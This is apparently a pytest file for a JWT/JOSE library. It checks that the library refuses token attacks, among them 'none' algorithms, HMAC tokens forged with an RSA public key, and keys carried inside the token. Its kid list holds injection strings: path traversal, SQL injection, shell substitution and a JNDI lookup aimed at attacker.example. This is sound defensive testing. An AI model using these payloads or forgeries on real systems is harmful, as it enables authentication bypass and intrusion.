"""The catalogue of attacks on tokens, rows 1 to 6 and 10 to 12: algorithms and keys.

Each name begins with the row. test_material.py has more odd keys.
"""

import base64
import itertools
import json
import socket
from collections.abc import Callable, Mapping
from typing import Never

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from gatewright.jose import (
    ALGORITHMS,
    JWK,
    JWKS,
    AlgorithmNotAllowed,
    BadSignature,
    InvalidKey,
    MalformedToken,
    UnknownKey,
    jwt,
)
from gatewright.jose.algorithms import CURVES
from gatewright.jose.encoding import decode, encode

Claims = dict[str, object]
Forge = Callable[..., str]
Verify = Callable[..., dict[str, object]]
Members = Mapping[str, Mapping[str, object]]

EVERY = tuple(ALGORITHMS)
ECDSA = ("ES256", "ES384", "ES512")
HMAC = ("HS256", "HS384", "HS512")


def _unsigned(header: object, claims: object, signature: str = "") -> str:
    return f"{encode(json.dumps(header).encode())}.{encode(json.dumps(claims).encode())}.{signature}"


def _public(members: Mapping[str, object], **more: object) -> dict[str, object]:
    return {
        name: value for name, value in members.items() if name in ("kty", "crv", "x", "y", "n", "e")
    } | more


# 1: unsigned tokens

NONES = sorted({"".join(letters) for letters in itertools.product("nN", "oO", "nN", "eE")})


@pytest.mark.parametrize("alg", [*NONES, "", " ", "none ", "NONE\0", "null", "undefined", "\uff4eone"])
def test_row_01_unsigned_token_is_refused_in_any_spelling_of_none(
    alg: str, verify: Verify, claims: Claims, keys: Mapping[str, JWK]
) -> None:
    genuine = jwt.sign(claims, keys["EdDSA"]).rpartition(".")[2]
    for signature in ("", "AA", genuine):
        for header in ({"alg": alg}, {"alg": alg, "kid": "eddsa"}, {"alg": alg, "typ": "JWT", "kid": "none"}):
            with pytest.raises(AlgorithmNotAllowed):
                verify(_unsigned(header, claims, signature))


@pytest.mark.parametrize(
    "header",
    [
        {},
        {"typ": "JWT"},
        {"alg": None},
        {"alg": False},
        {"alg": 0},
        {"alg": []},
        {"alg": ["none"]},
        {"alg": {}},
    ],
)
def test_row_01_missing_or_other_than_text_alg_is_refused(
    header: dict[str, object], verify: Verify, claims: Claims
) -> None:
    with pytest.raises(MalformedToken):
        verify(_unsigned(header, claims))


def test_row_01_refused_before_a_key_is_looked_for(verify: Verify, claims: Claims) -> None:
    with pytest.raises(AlgorithmNotAllowed):
        verify(_unsigned({"alg": "none"}, claims), JWKS([]))


@pytest.mark.parametrize("alg", NONES)
def test_row_01_a_caller_cannot_allow_none(alg: str, verify: Verify, claims: Claims) -> None:
    for algorithms in ([alg], ["RS256", alg], {alg, "HS256"}):
        with pytest.raises(ValueError, match="algorithms must name"):
            verify(_unsigned({"alg": alg}, claims), algorithms=algorithms)


# 2: public keys as HMAC secrets


def _encodings(key: JWK) -> dict[str, bytes]:
    public = key.public().native
    assert isinstance(public, rsa.RSAPublicKey)
    spki = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return {
        "SPKI PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "PKCS1 PEM": public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "SPKI DER": spki,
        "PKCS1 DER": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "SSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "X.509": b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(spki) + b"-----END CERTIFICATE-----\n",
        "JWK": json.dumps(key.to_dict()).encode(),
        "raw n": decode(str(key.to_dict()["n"])),
    }


ENCODINGS = ("SPKI PEM", "PKCS1 PEM", "SPKI DER", "PKCS1 DER", "SSH", "X.509", "JWK", "raw n")
BINARY = ("SPKI DER", "PKCS1 DER", "raw n")


@pytest.mark.parametrize("alg", HMAC)
@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("newline", [b"\n", b"\r\n"], ids=["LF", "CRLF"])
def test_row_02_hmac_with_a_public_key_is_refused(
    alg: str, encoding: str, newline: bytes, members: Members, verify: Verify, claims: Claims
) -> None:
    for key in (
        JWK.parse({**members["RSA"], "kid": "k"}),
        JWK.parse({**members["RSA"], "alg": "RS256", "kid": "k"}),
    ):
        secret = _encodings(key)[encoding]
        secret = secret if encoding in BINARY else secret.replace(b"\n", newline)
        for header in ({"alg": alg}, {"alg": alg, "kid": "k"}):
            token = _unsigned(header, claims)
            forged = token + encode(ALGORITHMS[alg].sign(secret, token[:-1].encode()))
            with pytest.raises(AlgorithmNotAllowed):
                verify(forged, key.public())
            with pytest.raises(UnknownKey):
                verify(forged, JWKS([key.public()]))


@pytest.mark.parametrize("alg", HMAC)
@pytest.mark.parametrize("encoding", [name for name in ENCODINGS if name != "raw n"])
@pytest.mark.parametrize("newline", [b"\n", b"\r\n"], ids=["LF", "CRLF"])
def test_row_02_a_caller_who_takes_the_public_key_for_the_secret_is_stopped(
    alg: str, encoding: str, newline: bytes, members: Members
) -> None:
    secret = _encodings(JWK.parse(members["RSA"]))[encoding]
    secret = secret if encoding in BINARY else secret.replace(b"\n", newline)
    with pytest.raises(InvalidKey, match="key or certificate"):
        JWK.symmetric(secret, alg=alg)


def test_row_02_a_key_set_never_mixes_families(members: Members) -> None:
    with pytest.raises(InvalidKey):
        JWKS.parse({"keys": [_public(members["RSA"]), members["oct"]]})
    assert (
        JWKS.parse({"keys": [_public(members["RSA"]), members["oct"]]}, public_only=True).keys[0].kty == "RSA"
    )
    assert len(JWKS.parse({"keys": [_public(members["RSA"]), members["oct"]]}, public_only=True).keys) == 1


# 3, 4: which algorithm is it?


@pytest.mark.parametrize(
    ("declared", "used"), list(itertools.permutations(("RS256", "RS384", "PS256", "PS512"), 2))
)
def test_row_03_the_algorithm_must_be_the_one_of_the_key(
    declared: str, used: str, members: Members, verify: Verify, claims: Claims, forge: Forge
) -> None:
    key = JWK.parse({**members["RSA"], "alg": declared, "kid": "k"})
    # Really signed with the algorithm the header names; then as the key says, while the header says another.
    for signed_with in (used, declared):
        token = forge({"alg": used, "kid": "k"}, claims, key, alg=signed_with)
        with pytest.raises(AlgorithmNotAllowed):
            verify(token, key.public())
        with pytest.raises(UnknownKey):
            verify(token, JWKS([key.public()]))


def test_row_03_the_header_cannot_satisfy_the_list_while_another_algorithm_verifies(
    members: Members, verify: Verify, claims: Claims, forge: Forge
) -> None:
    key = JWK.parse({**members["RSA"], "kid": "k"})
    token = forge({"alg": "RS256", "kid": "k"}, claims, key, alg="PS256")
    with pytest.raises(BadSignature):
        verify(token, key.public(), algorithms=["RS256"])
    with pytest.raises(BadSignature):
        verify(token, key.public(), algorithms=["RS256", "PS256"])


def test_row_04_a_key_without_alg_takes_only_what_fits_it_and_is_listed(
    members: Members, verify: Verify, claims: Claims, forge: Forge
) -> None:
    for kind in ("RSA", "P-256", "P-384", "P-521", "Ed25519"):
        key = JWK.parse({**members[kind], "kid": "k"})
        for alg in EVERY:
            if alg in key.algorithms:
                token = forge({"alg": alg, "kid": "k"}, claims, key, alg=alg)
                assert verify(token, JWKS([key.public()]), algorithms=[alg]) == claims
                with pytest.raises(AlgorithmNotAllowed):
                    verify(token, JWKS([key.public()]), algorithms=[name for name in EVERY if name != alg])
            else:
                with pytest.raises(UnknownKey):
                    verify(_unsigned({"alg": alg, "kid": "k"}, claims, "AAAA"), JWKS([key.public()]))


# 5: kid

KIDS = [
    "../../../../../../dev/null",
    "/dev/null",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "https://attacker.example/key",
    "' UNION SELECT 'secret' --",
    "'; DROP TABLE keys; --",
    "eddsa\0",
    "\0eddsa",
    "eddsa\n",
    " eddsa",
    "EDDSA",
    "edds\u0430",  # the last letter is Cyrillic
    "eddsa\u200b",
    "| sleep 10",
    "$(sleep 10)",
    "${jndi:ldap://attacker.example/a}",
    "__proto__",
    "*",
    "",
    "x" * 255,
]


@pytest.mark.parametrize("kid", KIDS)
def test_row_05_kid_is_compared_and_nothing_else(
    kid: str, verify: Verify, claims: Claims, forge: Forge, keys: Mapping[str, JWK]
) -> None:
    with pytest.raises(UnknownKey) as refusal:
        verify(forge({"alg": "EdDSA", "kid": kid}, claims, keys["EdDSA"]))
    assert not kid or kid not in str(refusal.value) or kid == "*"
    published = JWK.parse({**_public(keys["EdDSA"].to_dict()), "kid": kid})
    assert verify(forge({"alg": "EdDSA", "kid": kid}, claims, keys["EdDSA"]), JWKS([published])) == claims


@pytest.mark.parametrize(
    "kid", ["x" * 256, "x" * 12_000, 1, 1.5, True, None, [], ["eddsa"], {}, {"eddsa": 1}]
)
def test_row_05_kid_that_is_no_short_text_is_refused(
    kid: object, verify: Verify, claims: Claims, forge: Forge, keys: Mapping[str, JWK]
) -> None:
    with pytest.raises(MalformedToken):
        verify(forge({"alg": "EdDSA", "kid": kid}, claims, keys["EdDSA"]))


def test_row_05_kid_of_100_kb_is_refused_by_length(
    verify: Verify, claims: Claims, forge: Forge, keys: Mapping[str, JWK]
) -> None:
    with pytest.raises(MalformedToken, match="longer than"):
        verify(forge({"alg": "EdDSA", "kid": "x" * 100_000}, claims, keys["EdDSA"]))


def test_row_05_absent_kid_is_allowed_only_when_one_key_fits(
    verify: Verify, claims: Claims, forge: Forge, members: Members
) -> None:
    key = JWK.parse(members["Ed25519"])
    token = forge({"alg": "EdDSA"}, claims, key)
    other = JWK.generate("EdDSA").public()
    assert verify(token, JWKS([key.public()])) == claims
    assert verify(token, JWKS([key.public(), JWK.generate("ES256").public()])) == claims
    with pytest.raises(UnknownKey):
        verify(token, JWKS([key.public(), other]))


def test_row_05_kid_of_another_key_is_refused_when_one_key_is_given(
    verify: Verify, claims: Claims, forge: Forge, keys: Mapping[str, JWK]
) -> None:
    with pytest.raises(UnknownKey):
        verify(forge({"alg": "EdDSA", "kid": "other"}, claims, keys["EdDSA"]), keys["EdDSA"].public())


# 6: keys offered by the token


def _no_sockets(*_: object, **__: object) -> Never:
    raise AssertionError("a socket was opened")


@pytest.fixture
def sealed_off(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("socket", "create_connection", "getaddrinfo"):
        monkeypatch.setattr(socket, name, _no_sockets)


@pytest.mark.usefixtures("sealed_off")
@pytest.mark.parametrize("member", ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"])
def test_row_06_a_key_that_the_token_brings_is_never_used(
    member: str, verify: Verify, claims: Claims, forge: Forge, keys: Mapping[str, JWK]
) -> None:
    attacker = JWK.generate("EdDSA", kid="eddsa")
    value = {
        "jwk": attacker.to_dict(),
        "x5c": ["MIIB"],
        "jku": "http://127.0.0.1:9/",
        "x5u": "file:///etc/passwd",
    }.get(member, "AAAA")
    for kid in ({"kid": "eddsa"}, {}):
        with pytest.raises(BadSignature):
            verify(forge({"alg": "EdDSA", member: value, **kid}, claims, attacker))
    with pytest.raises(UnknownKey):
        verify(forge({"alg": "EdDSA", member: value, "kid": "new"}, claims, attacker))
    # A genuine token may carry it: some issuers send jku or x5t.
    assert verify(forge({"alg": "EdDSA", member: value, "kid": "eddsa"}, claims, keys["EdDSA"])) == claims


@pytest.mark.usefixtures("sealed_off")
def test_row_06_no_keys_never_means_the_key_of_the_header(
    verify: Verify, claims: Claims, forge: Forge
) -> None:
    attacker = JWK.generate("EdDSA")
    with pytest.raises(UnknownKey):
        verify(forge({"alg": "EdDSA", "jwk": attacker.to_dict()}, claims, attacker), JWKS([]))


# 10, 11, 12: keys that must not come in; test_material.py has more of each


def test_row_10_invalid_curve_points_and_mismatched_curves_are_no_keys(members: Members) -> None:
    p256 = _public(members["P-256"])
    zero = encode(bytes(32))
    for bad in (
        {**p256, "y": p256["x"]},
        {**p256, "x": zero, "y": zero},
        {**p256, "crv": "P-384"},
        {**p256, "crv": "P-521", "alg": "ES512"},
        {**p256, "alg": "ES512"},
        {**p256, "alg": "ES384"},
        {**p256, "alg": "EdDSA"},
        {**p256, "kty": "OKP"},
    ):
        with pytest.raises(InvalidKey):
            JWK.parse(bad)
        assert JWKS.parse({"keys": [bad]}, public_only=True).keys == ()


@pytest.mark.parametrize("alg", ECDSA)
def test_row_10_es_algorithms_go_with_their_own_curve_only(
    alg: str, members: Members, verify: Verify, claims: Claims
) -> None:
    for crv, curve in CURVES.items():
        if crv != ALGORITHMS[alg].crv:
            native = JWK.parse(members[crv]).native
            assert isinstance(native, ec.EllipticCurvePrivateKey)
            signature = encode(bytes(2 * curve.size))
            with pytest.raises(AlgorithmNotAllowed):
                verify(_unsigned({"alg": alg}, claims, signature), JWK.parse(_public(members[crv])))


def _integer(value: int) -> str:
    return encode(value.to_bytes((value.bit_length() + 7) // 8, "big"))


def test_row_11_weak_and_costly_rsa_keys_are_no_keys(members: Members) -> None:
    good = int.from_bytes(decode(str(members["RSA"]["n"])), "big")
    for modulus, exponent in (
        (good >> 1024 | 1, 65537),
        (good, 1),
        (good, 3),
        (good, 65536),
        (good, 2**2039 + 1),
        (good << 14336 | 1, 65537),
        (good - 1, 65537),
    ):
        entry = {"kty": "RSA", "n": _integer(modulus), "e": _integer(exponent)}
        with pytest.raises(InvalidKey):
            JWK.parse(entry)
        assert JWKS.parse({"keys": [entry]}, public_only=True).keys == ()


@pytest.mark.parametrize(("alg", "least"), [("HS256", 32), ("HS384", 48), ("HS512", 64)])
def test_row_12_short_and_empty_secrets_are_no_keys(alg: str, least: int) -> None:
    for length in (0, 1, 8, least - 1):
        with pytest.raises(InvalidKey):
            JWK.symmetric(b"x" * length, alg=alg)
        with pytest.raises(InvalidKey):
            JWK.parse({"kty": "oct", "alg": alg, "k": encode(b"x" * length)})
